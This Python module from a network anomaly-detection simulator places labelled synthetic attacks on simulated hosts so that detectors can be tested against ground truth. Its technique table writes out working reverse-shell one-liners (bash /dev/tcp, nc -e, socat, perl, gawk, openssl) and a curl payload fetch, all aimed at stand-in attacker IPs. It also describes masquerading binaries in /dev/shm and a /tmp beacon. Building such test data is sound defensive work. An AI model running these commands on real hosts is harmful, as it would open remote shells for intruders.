"""Labelled attacks: reverse shells, beacons and masquerading binaries (`--attacks`).

Families (labels' "family"): a system binary that never uses the network here
("never-seen": nc, socat, perl, gawk, openssl, telnet, a beacon dropped in /tmp), a
binary with a trusted name in a writable location ("masquerade"), and a binary routine
elsewhere in the fleet but new on this host ("host-novelty": bash on a web server). More
families with `--scenarios all`: baseline/simulate/families.py.

Each technique runs once, on its own host where possible, on a host where the binary
is not routine, after max(25 % of the period, 6 h), spread over the rest of the run.
"""

from __future__ import annotations

import random
from collections.abc import Sequence
from dataclasses import dataclass, replace

from rarenet.baseline.simulate.catalogue import Program
from rarenet.baseline.simulate.fleet import Fleet, Host, poll_time
from rarenet.baseline.simulate.labels import Label
from rarenet.baseline.simulate.spec import ATTACK_EARLIEST, ATTACK_LONGEST

FOOTHOLD = "foothold"  # stands for the process an attacker comes in through
# flavor → (parent program key, user) of a foothold: the exploited service.
FOOTHOLDS = {
    "web": ("gunicorn", "www-data"),
    "db": ("postgres-master", "postgres"),
    "ci": ("ci-shell", "gitlab-runner"),
    "dev": ("dev-shell", "{user}"),
    "bastion": ("sshd-session", "root"),
    "cache": ("redis", "redis"),
    "queue": ("rabbitmq", "rabbitmq"),
    "k8s": ("shim", "root"),
    "mail": ("postfix-master", "postfix"),
}
_PERL = (
    'perl -e \'use Socket;$i="203.0.113.9";$p=4444;socket(S,PF_INET,SOCK_STREAM,'
    'getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");'
    'open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};\''
)
_AWK = (
    'awk \'BEGIN {s = "/inet/tcp/0/203.0.113.12/8080"; while(42) { do{ printf "shell>" |& s;'
    " s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } }"
    ' while(c != "exit") close(s); }}\' /dev/null'
)


@dataclass(frozen=True, slots=True)
class Technique:
    """One attack: the process, its C2 peer, and when it connects (offsets from its start)."""

    id: str
    program: Program  # parent/user FOOTHOLD: taken from the host's exploited service
    remote: str
    port: int
    offsets: tuple[int, ...]
    respawn: bool  # a new process for every connection
    prefer: tuple[str, ...]  # host flavors to run on, best first
    avoid: tuple[str, ...]  # roles where this binary is routine
    description: str
    family: str = "never-seen"  # difficulty class (labels' "family", docs/quality.md)
    # The shell above the program when a child holds the shell's socket
    # (bash -c 'exec 3<>/dev/tcp/…; sleep 600'): the program's parent, under the foothold.
    shell: Program | None = None


def _prog(
    name: str, path: str, cmdline: str, parent: str = FOOTHOLD, user: str = FOOTHOLD
) -> Program:
    return Program(name, path, cmdline, user, parent, cwd="/tmp")


TECHNIQUES: tuple[Technique, ...] = (
    Technique(
        "reverse-shell-bash",
        _prog("bash", "/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
        "203.0.113.7",
        4444,
        (0, 1800),
        True,
        ("web",),
        ("db",),
        "bash reverse shell spawned by the web application (web shell), reconnecting once",
        "host-novelty",
    ),
    Technique(
        "reverse-shell-nc",
        _prog("nc", "/usr/bin/nc.openbsd", "nc 198.51.100.23 4444 -e /bin/sh", parent="sh"),
        "198.51.100.23",
        4444,
        (0,),
        False,
        ("k8s", "mail", "web"),
        (),
        "netcat reverse shell handing /bin/sh to 198.51.100.23:4444",
    ),
    Technique(
        "reverse-shell-socat",
        _prog("socat", "/usr/bin/socat", "socat TCP:203.0.113.50:443 EXEC:/bin/bash,pty,stderr"),
        "203.0.113.50",
        443,
        (0,),
        False,
        ("dev", "ci", "web"),
        (),
        "socat reverse shell with a pty to 203.0.113.50:443",
    ),
    Technique(
        "reverse-shell-perl",
        _prog("perl", "/usr/bin/perl", _PERL),
        "203.0.113.9",
        4444,
        (0,),
        False,
        ("web", "cache"),
        (),
        "perl one-liner reverse shell to 203.0.113.9:4444",
    ),
    Technique(
        "reverse-shell-awk",
        _prog("awk", "/usr/bin/gawk", _AWK),
        "203.0.113.12",
        8080,
        (0,),
        False,
        ("ci", "web"),
        (),
        "gawk /inet/tcp reverse shell to 203.0.113.12:8080",
    ),
    Technique(
        "reverse-shell-openssl",
        _prog("openssl", "/usr/bin/openssl", "openssl s_client -quiet -connect 198.51.100.77:443"),
        "198.51.100.77",
        443,
        (0, 120),
        True,
        ("bastion", "web", "dev"),
        (),
        "openssl s_client encrypted shell channel to 198.51.100.77:443",
    ),
    Technique(
        "telnet-c2",
        _prog("telnet", "/usr/bin/telnet.netkit", "telnet 203.0.113.31 23", parent="sh"),
        "203.0.113.31",
        23,
        (0,),
        False,
        ("queue", "cache", "mail", "web"),
        (),
        "telnet session to 203.0.113.31:23 from a service account",
    ),
    Technique(
        "tmp-beacon",
        _prog("beacon", "/tmp/.x/beacon", "/tmp/.x/beacon", parent="sh"),
        "203.0.113.99",
        8443,
        tuple(range(0, 7201, 300)),
        False,
        ("db", "web", "ci"),
        (),
        "binary dropped in /tmp beaconing every 5 minutes for 2 hours to 203.0.113.99:8443",
    ),
    Technique(
        "masquerade-path-curl",
        _prog(
            "curl",
            "/var/tmp/.cache/curl",
            "curl -s http://198.51.100.5/x.sh -o /var/tmp/.cache/x.sh",
            parent="sh",
        ),
        "198.51.100.5",
        80,
        (0, 45, 600),
        True,
        ("ci", "dev", "web"),
        (),
        "a copy of curl run from /var/tmp/.cache fetching a payload from 198.51.100.5",
        "masquerade",
    ),
    Technique(
        "masquerade-shm-sshd",
        _prog("sshd", "/dev/shm/sshd", "/usr/sbin/sshd -D", parent="systemd", user="root"),
        "203.0.113.66",
        22,
        (0, 2400),
        False,
        ("web", "db", "cache"),
        (),
        "binary named sshd running from /dev/shm, connecting out to 203.0.113.66:22",
        "masquerade",
    ),
    Technique(
        "masquerade-shm-kworker",
        _prog("kworker", "/dev/shm/kworker", "[kworker/0:2-events]", parent="systemd", user="root"),
        "198.51.100.200",
        443,
        tuple(range(0, 3601, 600)),
        False,
        ("k8s", "web", "db"),
        (),
        "binary named kworker running from /dev/shm, calling 198.51.100.200:443 every 10 min",
        "masquerade",
    ),
)


@dataclass(frozen=True, slots=True)
class AttackPlan:
    """One technique placed on one host at one time, with its label."""

    technique: Technique
    host: int
    start: int
    program: Program  # the technique's program with the host's foothold filled in
    label: Label
    shell: Program | None = None  # the program's parent when a child holds a shell's socket


def attack_window(fleet: Fleet) -> tuple[int, int]:
    """[earliest, latest] start of an attack in this run."""
    earliest = fleet.start + max((fleet.end - fleet.start) // 4, ATTACK_EARLIEST)
    return earliest, fleet.end - ATTACK_LONGEST


def _pick_host(
    hosts: Sequence[Host], tech: Technique, used: set[int], rng: random.Random
) -> Host | None:
    """A founding host of a preferred flavor not attacked yet, else the best available."""
    allowed = [h for h in hosts if h.role not in tech.avoid]
    fresh = [h for h in allowed if h.index not in used]
    for flavor in tech.prefer:
        matching = [h for h in fresh if h.flavor == flavor]
        if matching:
            return rng.choice(matching)
    pool = fresh or allowed
    return rng.choice(pool) if pool else None


def _place(tech: Technique, host: Host, start: int) -> AttackPlan:
    parent, user = FOOTHOLDS[host.flavor]
    program = replace(
        tech.program,
        parent=parent if tech.program.parent == FOOTHOLD else tech.program.parent,
        user=user if tech.program.user == FOOTHOLD else tech.program.user,
    )
    shell = None
    if tech.shell is not None:
        shell = replace(tech.shell, parent=parent, user=user)
        program = replace(program, parent=f"attack:{tech.id}:shell", user=user)
    last = poll_time(start + tech.offsets[-1], host.poll_offset)
    label = Label(
        host.name, program.path, program.name, start, last, tech.id, tech.description, tech.family
    )
    return AttackPlan(tech, host.index, start, program, label, shell)


def place(tech: Technique, host: Host, start: int) -> AttackPlan:
    """`tech` on `host` from `start`, its foothold filled in (scenario families)."""
    return _place(tech, host, start)


def replace_plan(first: AttackPlan, tech: Technique, start: int) -> AttackPlan:
    """`tech` from `start` on the host (and with the foothold) of an earlier plan."""
    last = first.label.end - first.start + start
    label = replace(
        first.label,
        start=start,
        end=last,
        technique=tech.id,
        description=tech.description,
        family=tech.family,
    )
    return replace(first, technique=tech, start=start, label=label)


def plan_attacks(fleet: Fleet, seed: int) -> list[AttackPlan]:
    """Place every technique once, deterministically from the seed; sorted by start."""
    rng = random.Random(f"rarenet-simulate:{seed}:attacks")
    earliest, latest = attack_window(fleet)
    founders = [h for h in fleet.hosts if h.join <= fleet.start and h.leave > fleet.end]
    order = rng.sample(TECHNIQUES, len(TECHNIQUES))
    width = (latest - earliest) / len(order)
    used: set[int] = set()
    plans = []
    for slot, tech in enumerate(order):
        host = _pick_host(founders, tech, used, rng)
        if host is None:
            continue
        used.add(host.index)
        start = int(earliest + (slot + rng.uniform(0.1, 0.9)) * width)
        plans.append(_place(tech, host, start))
    return sorted(plans, key=lambda plan: plan.start)


def attack_paths() -> frozenset[str]:
    """Executable paths only attacks use (never seen without --attacks)."""
    return frozenset(t.program.path for t in TECHNIQUES) - {"/usr/bin/bash"}
